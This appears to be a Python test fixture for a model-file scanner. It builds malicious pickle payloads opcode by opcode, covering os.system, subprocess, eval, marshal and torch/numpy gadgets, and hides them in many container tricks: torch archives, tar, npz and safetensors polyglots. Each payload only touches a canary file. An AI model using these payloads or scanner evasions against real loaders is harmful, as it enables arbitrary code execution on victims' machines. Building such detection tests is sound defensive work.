"""Pickles that would run something, built opcode by opcode. Each one, unpickled for real, would touch the file it is given.

Every payload stands beside an array, so that a test can ask whether the array is read all the same.
"""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

WEIGHTS = np.arange(12, dtype=np.float32).reshape(3, 4)
MARK, TUPLE, REDUCE, POP, NONE = b"(", b"t", b"R", b"0", b"N"


def text(value: str) -> bytes:
    raw = value.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def by_line(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def by_stack(module: str, name: str) -> bytes:
    return text(module) + text(name) + b"\x93"


def args(*values: bytes) -> bytes:
    return MARK + b"".join(values) + TUPLE


def call(function: bytes, *values: bytes) -> bytes:
    return function + args(*values) + REDUCE


def listed(*values: bytes) -> bytes:
    return b"](" + b"".join(values) + b"e"


def code(canary: Path) -> bytes:
    """A Python statement (which is an expression too) that touches the canary."""
    return text(f"open({str(canary)!r},'w').close()")


def shell(canary: Path) -> bytes:
    return text(f"touch {canary}")


@dataclass(frozen=True)
class Case:
    """`names` must all be in what is reported; `runs` is False where this machine lacks what the payload needs."""

    name: str
    payload: Callable[[Path], bytes]
    names: tuple[str, ...]
    runs: bool = True


def _one(module: str, name: str, *make: Callable[[Path], bytes], runs: bool = False, stack: bool = False) -> Case:
    find = by_stack if stack else by_line
    return Case(
        f"{module}.{name}", lambda c: call(find(module, name), *(m(c) for m in make)), (f"calls {module}.{name}(",), runs
    )


def _argv(canary: Path) -> bytes:
    return listed(text("touch"), text(str(canary)))


def _empty(canary: Path) -> bytes:
    return b"}"


def _getattr_chain(canary: Path) -> bytes:
    system = call(by_line("builtins", "getattr"), call(by_line("builtins", "__import__"), text("os")), text("system"))
    return call(system, shell(canary))


def _rot13(canary: Path) -> bytes:
    """The module's name is the result of a call, so that no scanner of names sees it."""
    module = call(by_line("codecs", "decode"), text("bf"), text("rot13"))
    return call(module + text("system") + b"\x93", shell(canary))


def _nested_reduce(canary: Path) -> bytes:
    inner = call(by_line("builtins", "eval"), code(canary))
    return call(by_line("builtins", "print"), inner)


def _compile(canary: Path) -> bytes:
    compiled = call(by_line("builtins", "compile"), code(canary), text("x"), text("exec"))
    return call(by_line("builtins", "exec"), compiled)


def _attrgetter(canary: Path) -> bytes:
    getter = call(by_line("operator", "attrgetter"), text("system"))
    return call(call(getter, call(by_line("importlib", "import_module"), text("os"))), shell(canary))


def _partial(canary: Path) -> bytes:
    return call(call(by_line("functools", "partial"), by_line("os", "system"), shell(canary)))


def _set_module(canary: Path) -> bytes:
    """sys.modules["pwned"] = ...: SETITEM on an object that importing gave."""
    return by_line("sys", "modules") + text("pwned") + NONE + b"s" + POP + call(by_line("os", "system"), shell(canary))


def _build_on_global(canary: Path) -> bytes:
    """BUILD with a pair sets attributes of a class of the standard library, for everybody who uses it later."""
    attributes = b"}" + text("pwned") + NONE + b"s"
    return by_line("collections", "UserDict") + NONE + attributes + b"\x86b" + POP + _system(canary)


def _set_state(canary: Path) -> bytes:
    """BUILD calls __setstate__, which the stream itself has put on the instance's class."""
    instance = call(by_line("types", "SimpleNamespace"))
    state = b"}" + text("__setstate__") + by_line("os", "system") + b"s"
    return instance + state + b"b" + shell(canary) + b"b"


def _system(canary: Path) -> bytes:
    return call(by_line("os", "system"), shell(canary))


def _marshal(canary: Path) -> bytes:
    import marshal

    compiled = marshal.dumps(compile(f"open({str(canary)!r},'w').close()", "x", "exec"))
    function = call(by_line("types", "FunctionType"), call(by_line("marshal", "loads"), raw(compiled)), b"}")
    return call(function)


def _stream(body: bytes) -> bytes:
    """The older stream of torch.save around one object."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    return head + b"\x80\x02" + body + b"." + pickle.dumps([], 2)


def _load_from_bytes(canary: Path) -> bytes:
    return call(by_line("torch.storage", "_load_from_bytes"), raw(_stream(_system(canary))))


def _load_plain_bytes(canary: Path) -> bytes:
    return call(by_line("torch.storage", "_load_from_bytes"), raw(b"\x80\x02" + _system(canary) + b"."))


def _load_archive_bytes(canary: Path) -> bytes:
    return call(by_line("torch.storage", "_load_from_bytes"), raw(archive(_system(canary))))


def _object_list(canary: Path) -> bytes:
    """numpy's array of objects: the list of them is its state."""
    array = call(by_line("numpy._core.multiarray", "_reconstruct"), by_line("numpy", "ndarray"), args(b"K\0"), raw(b"b"))
    dtype = call(by_line("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    return array + args(b"K\1", args(b"K\1"), dtype, b"\x89", listed(_system(canary))) + b"b"


def _rebuild_from_type(canary: Path) -> bytes:
    """A name that every checkpoint may use, handed a function of the attacker's."""
    return call(by_line("torch._tensor", "_rebuild_from_type_v2"), by_line("os", "system"), NONE, args(shell(canary)), NONE)


def _default_factory(canary: Path) -> bytes:
    return call(by_line("collections", "defaultdict"), by_line("os", "system")) + POP + _system(canary)


def _map(canary: Path) -> bytes:
    mapped = call(by_line("builtins", "map"), by_line("os", "system"), listed(shell(canary)))
    return call(by_line("builtins", "list"), mapped)


def _sorted(canary: Path) -> bytes:
    return call(by_line("builtins", "filter"), by_line("builtins", "eval"), listed(code(canary))) + b"2\x85" + POP


CASES: tuple[Case, ...] = (
    # one opcode each
    Case("GLOBAL", _system, ("calls os.system('touch",)),
    Case("STACK_GLOBAL", lambda c: call(by_stack("os", "system"), shell(c)), ("calls os.system",)),
    Case("dotted STACK_GLOBAL", lambda c: call(by_stack("shutil", "os.system"), shell(c)), ("calls shutil.os.system",)),
    Case("INST", lambda c: MARK + shell(c) + b"ios\nsystem\n", ("calls os.system",)),
    Case("OBJ", lambda c: MARK + by_line("os", "system") + shell(c) + b"o", ("calls os.system",)),
    Case("TUPLE1", lambda c: by_line("os", "system") + shell(c) + b"\x85R", ("calls os.system",)),
    Case("NEWOBJ", lambda c: by_line("subprocess", "Popen") + args(_argv(c)) + b"\x81", ("builds subprocess.Popen",), False),
    Case("NEWOBJ_EX", lambda c: by_line("subprocess", "Popen") + args() + b"}\x92", ("builds subprocess.Popen",), False),
    Case("EXT1", lambda c: b"\x82\x07" + args(shell(c)) + REDUCE, ("calls copyreg extension.7",), False),
    Case("EXT4", lambda c: b"\x84" + struct.pack("<I", 70000) + args() + REDUCE, ("calls copyreg extension.70000",), False),
    Case("import only", lambda c: by_line("antigravity", "fly") + POP + _system(c), ("imports antigravity.fly",), False),
    Case("result dropped", lambda c: _system(c) + POP + NONE, ("calls os.system",)),
    Case("result in the memo", lambda c: _system(c) + b"q\xf0" + POP + b"h\xf0", ("calls os.system",)),
    Case("function in the memo", lambda c: by_line("os", "system") + b"q\xf1" + POP + b"h\xf1" + args(shell(c)) + REDUCE,
         ("calls os.system",)),
    Case("BUILD on a class", _build_on_global, ("changes collections.UserDict", "calls os.system")),
    Case("BUILD with __setstate__", _set_state, ("calls types.SimpleNamespace", "imports os.system")),
    Case("SETITEM on sys.modules", _set_module, ("changes sys.modules", "calls os.system")),
    Case("name that is not ASCII", lambda c: call(by_line("os", "système"), shell(c)) + POP + NONE, ("os.système",), False),
    Case("protocol 0", lambda c: b"cos\nsystem\n(V" + f"touch {c}".encode() + b"\ntR", ("calls os.system",)),
    # chains
    Case("getattr chain", _getattr_chain, ("calls builtins.__import__('os'", "calls builtins.getattr", "calls the result of")),
    Case("computed module name", _rot13, ("calls codecs.decode('bf', 'rot13')", "<codecs.decode('bf', 'rot13')>.system")),
    Case("nested reduce", _nested_reduce, ("calls builtins.eval(", "calls builtins.print(builtins.eval(")),
    Case("compile and exec", _compile, ("calls builtins.compile", "calls builtins.exec")),
    Case("attrgetter", _attrgetter, ("calls operator.attrgetter", "calls importlib.import_module('os')")),
    Case("partial", _partial, ("calls functools.partial", "imports os.system")),
    Case("marshalled function", _marshal, ("calls marshal.loads", "calls types.FunctionType")),
    Case("map", _map, ("calls builtins.map", "imports os.system")),
    Case("filter", _sorted, ("calls builtins.filter", "imports builtins.eval"), False),
    Case("default factory", _default_factory, ("calls os.system",)),
    Case("rebuild with a foreign function", _rebuild_from_type, ("calls os.system",), False),
    Case("stream within the stream", _load_from_bytes, ("calls os.system",), False),
    Case("pickle within the stream", _load_plain_bytes, ("calls os.system",), False),
    Case("archive within the stream", _load_archive_bytes, ("calls os.system",), False),
    # what CPython's C code reads and its Python code does not
    Case("octal number", lambda c: b"I010\n0" + _system(c), ("calls os.system",)),
    Case("number cut by a zero byte", lambda c: b"I1\0x\n0F1\0x\n0" + _system(c), ("calls os.system",)),
    Case("memo in base ten", lambda c: b"Np010\n0g10\n0" + _system(c), ("calls os.system",)),
    Case("text that is no UTF-8", lambda c: b"U\x01\xff0" + _system(c), ("calls os.system",), False),
    Case("call behind a thousand others", lambda c: b"N0" * 5000 + _system(c), ("calls os.system",)),
    Case("second command", lambda c: call(by_line("os", "system"), text("true")) + POP + _system(c),
         ("calls os.system('true')", "calls os.system('touch")),
    Case("objects in an array", _object_list, ("calls os.system",)),
    Case("hooks of a tensor", lambda c: call(by_line("collections", "OrderedDict")) + text("0") + by_line("os", "system") + b"s"
         + POP + _system(c), ("calls os.system",)),
    # plain names
    _one("posix", "system", shell, runs=True),
    _one("os", "popen", shell, runs=True),
    _one("os", "execvp", lambda c: text("touch"), _argv),
    _one("subprocess", "call", _argv, runs=True),
    _one("subprocess", "check_output", _argv, runs=True),
    _one("subprocess", "getoutput", shell, runs=True),
    _one("subprocess", "Popen", _argv, runs=True),
    _one("builtins", "eval", code, runs=True),
    _one("builtins", "exec", code, runs=True),
    _one("__builtin__", "eval", code),
    _one("runpy", "_run_code", code, _empty, runs=True),
    _one("pty", "spawn", _argv, runs=True),
    _one("timeit", "timeit", code, lambda c: text("pass"), lambda c: by_line("time", "time"), lambda c: b"K\x01", runs=True),
    _one("profile", "run", code, runs=True),
    _one("cProfile", "run", code, runs=True),
    _one("doctest", "debug_script", code),
    _one("code", "interact", text_of := (lambda c: text("x"))),
    _one("idlelib.run", "Executive.runcode", code, stack=True),
    _one("idlelib.pyshell", "ModifiedInterpreter.runcommand", text_of, code, stack=True),
    _one("bdb", "Bdb.run", text_of, code, stack=True),
    _one("trace", "Trace.run", text_of, code, stack=True),
    _one("pip", "main", lambda c: listed(text("install"), text("pwned"))),
    _one("pip._internal.cli.main", "main", lambda c: listed(text("--version"))),
    _one("ensurepip", "_run_pip", lambda c: listed(text("--version"))),
    _one("venv", "main", lambda c: listed(text("x"))),
    _one("asyncio.unix_events", "_UnixSubprocessTransport._start", text_of, _argv, stack=True),
    _one("multiprocessing.util", "spawnv_passfds", text_of, _argv),
    _one("uuid", "_get_command_stdout", lambda c: text("touch")),
    _one("pydoc", "pipepager", text_of, shell, runs=True),
    _one("pydoc", "locate", text_of),
    _one("lib2to3.pgen2.grammar", "Grammar.loads", text_of, text_of, stack=True),
    _one("numpy.testing._private.utils", "runstring", code, _empty, runs=True),
    _one("numpy.f2py.crackfortran", "getlincoef", code, _empty),
    _one("torch", "load", shell),
    _one("torch.hub", "load", text_of, text_of),
    _one("torch.utils.collect_env", "run", shell),
    _one("torch._dynamo.guards", "GuardBuilder.get", text_of, code, stack=True),
    _one("torch.utils._config_module", "ConfigModule.load_config", text_of, text_of, stack=True),
    _one("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", text_of, code, stack=True),
    _one("torch._utils", "_rebuild_tensor_v2.__globals__.get", text_of, stack=True),
    _one("joblib", "load", shell),
    _one("joblib.numpy_pickle", "load", shell),
    _one("dill._dill", "_import_module", lambda c: text("os")),
    _one("dill", "loads", lambda c: raw(b"x")),
    _one("cloudpickle.cloudpickle", "_make_function", text_of),
    _one("cloudpickle", "loads", lambda c: raw(b"x")),
    _one("pickle", "loads", lambda c: raw(b"\x80\x02" + _system(c) + b"."), runs=True),
    _one("_pickle", "loads", lambda c: raw(b"\x80\x02" + _system(c) + b"."), runs=True),
    _one("io", "open", lambda c: text(str(c)), lambda c: text("w"), runs=True),
    _one("_io", "FileIO", lambda c: text(str(c)), lambda c: text("w"), runs=True),
    _one("pathlib", "Path.touch", lambda c: call(by_line("pathlib", "PosixPath"), text(str(c))), runs=True, stack=True),
    _one("shutil", "rmtree", text_of),
    _one("ctypes", "CDLL", text_of),
    _one("webbrowser", "open", text_of),
    _one("urllib.request", "urlopen", text_of),
    _one("socket", "create_connection", lambda c: args(text("x"), b"K\x01")),
    _one("logging.config", "dictConfig", _empty),
    _one("ssl", "get_server_certificate", text_of),
)  # fmt: skip


def plain(payload: bytes) -> bytes:
    """{"w": WEIGHTS, "x": payload} as a pickle that no writer but this one has made."""
    array = pickle.dumps(WEIGHTS, 2)[2:-1]
    return b"\x80\x04(" + text("w") + array + text("x") + payload + b"d."


def stream(payload: bytes) -> bytes:
    return _stream(MARK + text("w") + pickle.dumps(WEIGHTS, 2)[2:-1] + text("x") + payload + b"d")


def torch_body(payload: bytes) -> bytes:
    """The data.pkl of torch.save({"w": tensor, "x": payload})."""
    pid = args(text("storage"), by_line("torch", "FloatStorage"), text("0"), text("cpu"), b"K\x0c") + b"Q"
    hooks = call(by_line("collections", "OrderedDict"))
    shape, stride = args(b"K\x03", b"K\x04"), args(b"K\x04", b"K\x01")
    tensor = call(by_line("torch._utils", "_rebuild_tensor_v2"), pid, b"K\x00", shape, stride, b"\x89", hooks)
    return b"\x80\x02(" + text("w") + tensor + text("x") + payload + b"d."


def archive(
    payload: bytes, compression: int = zipfile.ZIP_STORED, extra: dict[str, bytes] | None = None, more: bytes = b""
) -> bytes:
    """A torch.save archive around the payload."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        made.writestr("archive/data.pkl", torch_body(payload) + more)
        made.writestr("archive/data/0", WEIGHTS.tobytes())
        made.writestr("archive/version", "3\n")
        for name, content in (extra or {}).items():
            made.writestr(name, content)
    return out.getvalue()


def wrong_checksum(payload: bytes) -> bytes:
    made = archive(payload)
    right = struct.pack("<I", zlib.crc32(torch_body(payload)))
    return made.replace(right, b"\xde\xad\xbe\xef")


def marked_encrypted(payload: bytes) -> bytes:
    """The encryption bit of the directory set: zipfile wants a password, PyTorch does not care."""
    made = bytearray(archive(payload))
    made[made.index(b"PK\1\2") + 8] |= 1
    return bytes(made)


def renamed_member(payload: bytes) -> bytes:
    """Another name in the member's own header than in the directory: zipfile stops."""
    return archive(payload).replace(b"archive/data.pkl", b"archive/data.txt", 1)


def two_main_pickles(payload: bytes) -> bytes:
    out = io.BytesIO(archive(NONE))
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("archive/more/data.pkl", b"\x80\x02" + payload + b".")
    return out.getvalue()


def same_name_twice(payload: bytes) -> bytes:
    import warnings

    out = io.BytesIO(archive(NONE))
    with zipfile.ZipFile(out, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.writestr("archive/data.pkl", torch_body(payload))
    return out.getvalue()


def pickle_before_zip(payload: bytes) -> bytes:
    """torch.load looks at the first bytes and unpickles; zipfile looks at the last and sees a clean archive."""
    return plain(payload) + archive(NONE)


def object_array(payload: bytes) -> bytes:
    out = io.BytesIO()
    np.lib.format.write_array_header_1_0(out, {"descr": "|O", "fortran_order": False, "shape": (1,)})
    return out.getvalue() + b"\x80\x04" + payload + b"."


def npz(payload: bytes) -> bytes:
    out, weights = io.BytesIO(), io.BytesIO()
    np.save(weights, WEIGHTS)
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("w.npy", weights.getvalue())
        made.writestr("x.npy", object_array(payload))
    return out.getvalue()


def object_array_twice(payload: bytes) -> bytes:
    """Two members of one name: zipfile, and with it NumPy, hands out the last."""
    import warnings

    out = io.BytesIO(npz(NONE))
    weights = io.BytesIO()
    np.save(weights, WEIGHTS)
    with zipfile.ZipFile(out, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        made.writestr("w.npy", object_array(payload))
        made.writestr("w.npy", weights.getvalue())
    return out.getvalue()


def long_header(payload: bytes) -> bytes:
    """NumPy reads headers of any length where it is told to trust the file."""
    header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode().ljust(60_000) + b"\n"
    made = b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + b"\x80\4" + payload + b"."
    weights, out = io.BytesIO(), io.BytesIO()
    np.save(weights, WEIGHTS)
    with zipfile.ZipFile(out, "w") as archived:
        archived.writestr("w.npy", weights.getvalue())
        archived.writestr("x.npy", made)
    return out.getvalue()


def capitals(payload: bytes) -> bytes:
    """PyTorch's reader finds members without telling capitals from small letters."""
    return archive(payload).replace(b"archive/data.pkl", b"archive/DATA.pkl")


def _tar(members: list[tuple[str, bytes]], link: tuple[str, str] | None = None) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as made:
        for name, content in members:
            info = tarfile.TarInfo(name)
            info.size = len(content)
            made.addfile(info, io.BytesIO(content))
        if link is not None:
            info = tarfile.TarInfo(link[0])
            info.type, info.linkname = tarfile.LNKTYPE, link[1]
            made.addfile(info)
    return out.getvalue()


def _old(payload: bytes, name: str = "pickle") -> list[tuple[str, bytes]]:
    body = b"\x80\2" + MARK + text("w") + pickle.dumps(WEIGHTS, 2)[2:-1] + text("x") + payload + b"d."
    none = pickle.dumps(0, 2) + pickle.dumps([], 2)
    return [("storages", none), ("tensors", pickle.dumps(0, 2)), (name, body)]


def tar_without_magic(payload: bytes) -> bytes:
    """tarfile asks for the checksum of a header and for nothing else."""
    made = bytearray(_tar(_old(payload)))
    place = 0
    while any(made[place : place + 512]):
        header = made[place : place + 512]
        header[257:265], header[148:156] = bytes(8), b" " * 8
        header[148:156] = b"%06o\0 " % sum(header)
        made[place : place + 512] = header
        place += 512 + (int(header[124:135], 8) + 511) // 512 * 512
    return bytes(made)


def safetensors_too(payload: bytes) -> bytes:
    """The length of the header is B and how far to skip; the first name V reads up to the line feed in the first tensor."""
    content = b"\n0" + payload + b"."
    content = content.ljust(-(-len(content) // 4) * 4)
    first, second = len(content), len(content) + WEIGHTS.nbytes
    header = json.dumps({
        "V": {"dtype": "U8", "shape": [first], "data_offsets": [0, first]},
        "w": {"dtype": "F32", "shape": [3, 4], "data_offsets": [first, second]},
    }).encode()  # fmt: skip
    return struct.pack("<Q", 0x542) + header.ljust(0x542) + content + WEIGHTS.tobytes()


def zipped(name: str, content: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as made:
        made.writestr(name, content)
    return out.getvalue()


def script(payload: bytes) -> bytes:
    return archive(NONE, extra={"archive/constants.pkl": b"\x80\x02" + payload + b".", "archive/code/a.py": b""})


CONTAINERS: dict[str, Callable[[bytes], bytes]] = {
    "plain pickle": plain,
    "older stream": stream,
    "archive": archive,
    "deflated archive": lambda p: archive(p, zipfile.ZIP_DEFLATED),
    "wrong checksum": wrong_checksum,
    "marked as encrypted": marked_encrypted,
    "renamed member": renamed_member,
    "two main pickles": two_main_pickles,
    "same name twice": same_name_twice,
    "hidden pickle": lambda p: archive(NONE, extra={"archive/extra.pkl": b"\x80\x02" + p + b"."}),
    "hidden pickle without an ending": lambda p: archive(NONE, extra={"archive/readme": b"\x80\x04" + p + b"."}),
    "pickle before an archive": pickle_before_zip,
    "broken behind the payload": lambda p: plain(p)[:-2] + b"\xff\xff",
    "no STOP": lambda p: plain(p)[:-1],
    "second pickle": lambda p: pickle.dumps({"w": WEIGHTS}) + b"\x80\x04" + p + b".",
    "wrong frame": lambda p: b"\x80\x04\x95" + struct.pack("<Q", 1) + plain(p)[2:],
    "without a magic number": lambda p: b"C\x03abc0" + plain(p)[2:],
    "text first": lambda p: b"X" + struct.pack("<I", 1 << 16) + b" " * (1 << 16) + b"0" + plain(p)[2:],
    "payload before garbage": lambda p: MARK + text("w") + pickle.dumps(WEIGHTS, 2)[2:-1] + p + b"\xff" * 20_000,
    "capitals": capitals,
    "pickle behind the main one": lambda p: archive(NONE, more=b"\x80\2" + p + b"."),
    "hidden pickle of protocol 0": lambda p: archive(NONE, extra={"archive/data/notes": b"(lp0\n0" + p + b"."}),
    "deflated hidden pickle": lambda p: archive(NONE, zipfile.ZIP_DEFLATED, {"archive/readme": b"\x80\x04" + p + b"."}),
    "archive in an archive": lambda p: archive(NONE, extra={"archive/extra.bin": archive(p)}),
    "compressed in an archive": lambda p: archive(NONE, extra={"archive/x.gz": gzip.compress(plain(p))}),
    "tar": lambda p: _tar(_old(p)),
    "tar without its magic number": tar_without_magic,
    "tar with a link": lambda p: _tar(_old(p, "other"), ("pickle", "other")),
    "tar with a name twice": lambda p: _tar([*_old(p), ("./pickle", b"\x80\2N.")]),
    "tar with broken storages": lambda p: _tar([("storages", b"\x80\2K\1."), *_old(p)[1:]]),
    "tar of other files": lambda p: _tar([("a/b.txt", b"x"), ("a/model", plain(p))]),
    "zip of other files": lambda p: zipped("a/model.joblib", plain(p), zipfile.ZIP_DEFLATED),
    "zlib": lambda p: zlib.compress(plain(p)),
    "gzip": lambda p: gzip.compress(plain(p)),
    "bzip2": lambda p: bz2.compress(plain(p)),
    "xz": lambda p: lzma.compress(plain(p)),
    "safetensors too": safetensors_too,
    "NumPy archive": npz,
    "NumPy archive with a name twice": object_array_twice,
    "NumPy array with a long header": long_header,
    "TorchScript constants": script,
}

# What torch.load(path, weights_only=False) runs; NumPy's, joblib's and other readers run the rest.
TORCH_RUNS = (
    "plain pickle", "older stream", "archive", "deflated archive", "wrong checksum", "renamed member",
    "pickle before an archive", "broken behind the payload", "no STOP", "without a magic number", "text first",
    "payload before garbage", "capitals", "tar", "tar without its magic number", "tar with a link", "tar with a name twice",
    "safetensors too",
)  # fmt: skip
